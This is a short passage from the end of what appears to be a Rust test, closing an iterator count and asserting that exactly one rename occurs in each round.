            })
            .count();
        assert_eq!(renames, 1, "round {round}");
    }
}
